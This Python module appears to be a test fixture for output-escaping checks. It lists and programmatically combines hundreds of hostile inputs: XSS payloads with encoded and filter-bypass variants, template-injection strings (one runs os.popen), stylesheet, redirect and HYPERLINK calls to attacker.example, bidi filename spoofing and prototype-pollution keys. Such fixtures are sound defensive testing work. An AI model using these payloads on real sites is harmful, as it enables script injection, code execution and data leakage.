"""Texts that some door might read as more than text: templates, markup, scripts, TeX, formulas, paths, directions."""

HOSTILE = (
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}",
    "{% for x in range(9) %}",
    "{#",
    "#}",
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</title></style></textarea><svg onload=alert(3)>",
    '<img src=x onerror="alert(4)">',
    "<!--",
    "]]>",
    "![x](http://attacker.example/x.png)",
    "[x](javascript:alert(5))",
    "$\\badmacro{x}$",
    "\"'`<>&",
    "&lt;b&gt; &amp; &#x3C;",
    "${alert(6)} `${1}`",
    "\\u003cscript\\u003e \\x3c \\",
    "@@scene@@ @@title@@",
    "http://attacker.example/",
    "javascript:alert(7)",
    "\u202egnp.exe\u202c \u200f\u05d0\u05d1\u200e",
    "line\u2028separator\u2029here",
    '=HYPERLINK("http://attacker.example")',
    "__proto__",
    "constructor",
    "x" * 300,
)


# ---------------------------------------------------------------- and by the hundred, for a page of nothing else

# What ends the place where a text stands: an attribute, an element, a script, a comment, a style, a template.
_ENDS = ("", '">', "'>", "</script>", "</title></style></textarea>", "-->", "]]></svg>", "*/;}", "{{ 1 }}", "\n")
# What then runs, fetches, or takes the page away; {n} makes each its own.
_RUNS = (
    "<script>alert({n})</script>",
    "<img src=x{n} onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<a href=javascript:alert({n})>x</a>",
    "<details open ontoggle=alert({n})>",
    "<math><mtext><style><img src onerror=alert({n})></style></mtext></math>",
    "<style>@import 'http://attacker.example/{n}.css';</style>",
    "<link rel=stylesheet href=//attacker.example/{n}>",
    "<base href=http://attacker.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/{n}'>",
    "<object data=data:text/html,<script>alert({n})</script>></object>",
    "<form action=http://attacker.example/{n}><button autofocus onfocus=alert({n})>",
    " onmouseover=alert({n}) autofocus onfocus=alert({n}) x=",
    ";background:url(http://attacker.example/{n});",
    "';alert({n});//",
    "`+alert({n})+`",
    "{{{{ cycler.__init__.__globals__.os.popen('touch /tmp/strikemap-hostile-{n}') }}}}",
)
# What a second decoding would turn into the above.
_CODED = (
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "jav\tascript:alert({n})",
    "java\nscript:alert({n})",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "//attacker.example/{n}",
    "hasOwnProperty",
    "toString",
    "</ScRiPt\t><ScRiPt\t>alert({n})</ScRiPt\t>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "\u2066<img src=x onerror=alert({n})>\u2069",
    "a\u0301\u0302\u0303" * 12 + "{n}",
)


def _cases() -> tuple[str, ...]:
    patterns = [end.replace("{", "{{").replace("}", "}}") + run for end in _ENDS for run in _RUNS]
    made = [pattern.format(n=number) for number, pattern in enumerate([*patterns, *_CODED], start=1000)]
    return tuple(dict.fromkeys([*HOSTILE, *made]))


CASES = _cases()
